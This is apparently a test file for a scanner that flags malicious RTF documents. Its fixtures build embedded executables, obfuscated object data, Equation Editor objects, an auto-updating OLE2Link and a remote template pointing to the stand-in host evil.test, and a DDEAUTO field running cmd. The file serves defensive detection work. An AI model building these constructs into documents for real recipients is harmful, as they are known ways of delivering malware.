import struct

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sekisho.mime.documents import rtf


def an_object(name, data):
    named = name.encode() + b"\0"
    return (struct.pack("<III", 0x501, 2, len(named)) + named + struct.pack("<III", 0, 0, len(data)) + data).hex()


def a_package(name="a.exe", octets=b"MZ" + bytes(50)):
    body = b"\x02\0" + name.encode() + b"\0C:\\a\0\0\0\x03\0" + struct.pack("<I", 2) + b"x\0" + struct.pack("<I", len(octets)) + octets
    return an_object("Package", body)


def text(data, more=""):
    return "{\\rtf1 Minutes {\\object\\objemb" + more + "{\\*\\objdata " + data + "}}}"


def test_an_embedded_file_is_handed_on(look):
    looking = look(rtf.look, text(a_package()))
    assert [(member.name, member.octets[:2]) for member in looking.members] == [("a.exe", b"MZ")]
    assert set(looking.signs) == {"embedded_file"}


def test_digits_broken_up_are_read_and_told(look):
    broken = "".join(f"{pair}{{\\*\\x{number}}}\r\n" for number, pair in enumerate(a_package()))
    looking = look(rtf.look, text(broken))
    assert [member.name for member in looking.members] == ["a.exe"]
    assert "rtf_obfuscated" in looking.signs


def test_the_equation_editor(look):
    assert "rtf_equation" in look(rtf.look, text(an_object("Equation.3", bytes(100)))).signs
    hidden = an_object("x", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes.fromhex("02ce020000000000c000000000000046"))
    assert "rtf_equation" in look(rtf.look, text(hidden, "\\objupdate")).signs


def test_a_link_that_loads_itself(look):
    looking = look(rtf.look, text(an_object("OLE2Link", "http://evil.test/a.hta".encode("utf-16-le")), "\\objautlink\\objupdate"))
    assert {"external_object", "rtf_update"} <= set(looking.signs)
    assert "http://evil.test/a.hta" in looking.links


def test_a_template_from_elsewhere(look):
    assert look(rtf.look, r"{\rtf1{\*\template http://evil.test/t}}").signs["external_template"].detail == "http://evil.test/t"
    assert "external_template" in look(rtf.look, r"{\rtf1{\*\template \u104?\u116?\u116?\u112?://evil.test/t}}").signs
    assert look(rtf.look, r"{\rtf1{\*\template C:\\Normal.dotm}}").signs == {}


def test_fields(look):
    looking = look(rtf.look, r'{\rtf1{\field{\*\fldinst{DDEAUTO cmd "/c x"}}}{\field{\*\fldinst{HYPERLINK "https://www.partner.test/"}}}}')
    assert set(looking.signs) == {"dde"}
    assert list(looking.links) == ["https://www.partner.test/"]


def test_an_ordinary_text(look):
    looking = look(rtf.look, r"{\rtf1\ansi{\fonttbl{\f0 Times;}}\f0 Minutes of Tuesday\par}")
    assert (looking.signs, looking.members, looking.links) == ({}, [], {})


def test_too_many_objects_are_told(look):
    looking = look(rtf.look, "{\\rtf1" + "{\\objdata 00}" * 300)
    assert "unscannable.archive_members" in {defect.code for defect in looking.defects}


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.text(alphabet="{}\\'01af objdatbin*u\r\n", max_size=300))
def test_broken_ones_raise_nothing(look, body):
    look(rtf.look, "{\\rtf1{\\*\\objdata " + body)
    look(rtf.look, "{\\rtf1" + body)


def test_hostile_text_is_read_in_linear_time(look):
    for piece in ("{\\objdata ", "\\fldinst{", "{\\*\\template a", "\\bin99999999 ", "\\objdata\\'"):  # what is quadratic here takes hours
        look(rtf.look, "{\\rtf1" + piece * 50_000)
